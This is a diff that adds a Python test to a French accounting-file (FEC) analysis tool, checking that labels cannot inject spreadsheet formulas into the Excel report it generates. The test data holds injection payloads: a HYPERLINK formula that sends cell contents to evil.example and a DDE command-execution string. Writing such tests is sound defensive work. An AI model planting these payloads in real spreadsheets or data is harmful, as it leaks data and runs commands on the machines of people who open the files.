@@ -194,3 +194,17 @@ def test_amounts_in_messages_are_written_the_local_way():
     assert format_number(Decimal("-1281.00"), "fr") == "-1\u202f281"
     assert "1\u202f583,35 €" in text("finance.alert.resultat_non_affecte", "fr", montant=1583.35)
     assert "Line 12" in text("finance.fec.error.date", "en", line=12, value="x")  # ints stay as they are
+
+
+def test_no_formula_reaches_the_workbook_from_fec_text(tmp_path):
+    """Formula injection (issue 15): FEC labels like =HYPERLINK(...) stay text in the analysis workbook."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    rows = [dict(r, EcritureLib=evil, CompteLib=evil, JournalLib="+cmd|' /C calc'!A0", CompAuxLib="@SUM(1+1)")
+            for r in simple_rows()]
+    years = analyse(write(tmp_path, build(rows)))
+    book = load_workbook(io.BytesIO(excel_report(years, "fr")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
+    assert any(evil in t for t in texts), "the label itself is kept, as text"
